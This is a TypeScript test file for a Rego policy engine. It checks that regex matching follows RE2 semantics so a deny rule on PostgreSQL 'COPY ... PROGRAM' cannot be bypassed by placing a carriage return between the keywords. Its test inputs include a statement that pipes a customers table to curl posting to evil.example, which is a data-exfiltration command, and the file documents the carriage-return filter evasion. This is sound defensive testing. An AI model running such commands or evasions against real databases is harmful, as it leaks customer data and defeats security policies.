// regex.match reads RE2's `.` as RE2 does (Go regexp/syntax, what OPA's regex.match uses):
// without (?s) it excludes only \n (https://pkg.go.dev/regexp/syntax). JS's `.` also refuses
// \r, \u2028 and \u2029, and JS's \s matches Unicode spaces where RE2's is ASCII only, so
// the pattern was translated to JS with both changed. Before, OPA's
// regex.match(`copy.*program`, "COPY t TO\rPROGRAM 'x'") was true and the evaluator's false:
// a deny rule on the statement text stopped firing once the client put a carriage return
// between the keywords (PostgreSQL's scanner treats \r as whitespace, so it ran).
import { describe, expect, it } from 'vitest';
import { contractInput } from './engine.contract.js';
import { regoEngine } from './rego-engine.js';
import { compileModules } from './rego/index.js';
import type { PolicyInput } from './types.js';

const POLICY = `package portcullis

import rego.v1

default allow := false

allow if input.statement.command in {"SELECT", "COPY"}

deny contains "COPY ... PROGRAM runs a shell command on the database server" if {
	regex.match(\`(?i)\\bcopy\\b.*\\bprogram\\b\`, input.statement.text)
}
`;

const input = (text: string): PolicyInput => contractInput({ text, command: 'COPY', columns: [] });

describe('regex.match: RE2 `.` matches \\r (OPA), the evaluator does not', () => {
  it('evaluates regex.match like RE2', () => {
    const p = compileModules([]);
    // OPA: [{"x": true}] (RE2 `.` matches every character except \n)
    expect(p.query('x := regex.match(`a.b`, "a\\rb")')).toEqual([{ x: true }]);
    expect(p.query('x := regex.match(`a.b`, "a\\u2028b")')).toEqual([{ x: true }]);
  });

  it('same root cause: \\s, \\S and (?m) follow JS line/space classes, not RE2', () => {
    const p = compileModules([]);
    // RE2 \s is [\t\n\f\r ] (ASCII only): NBSP is \S. OPA: true; evaluator: false.
    expect(p.query('x := regex.match(`^\\S+$`, "a\u00a0b")')).toEqual([{ x: true }]);
    // RE2 (?m) lines end at \n only. OPA: false; evaluator: true (JS also splits at \r, \u2028).
    expect(p.query('x := regex.match(`(?m)^b`, "a\rb")')).toEqual([{ x: false }]);
  });

  it('denies COPY ... PROGRAM when a carriage return separates the keywords', () => {
    const engine = regoEngine([{ path: 'policies.rego', source: POLICY }]);
    // sanity: with a space the deny fires
    expect(engine.decide(input("COPY customers TO PROGRAM 'curl -d @- evil.example'")).kind).toBe(
      'deny',
    );
    // OPA: deny (the message above). The evaluator: allow.
    const d = engine.decide(input("COPY customers TO\rPROGRAM 'curl -d @- evil.example'"));
    expect(d.kind).toBe('deny');
  });
});
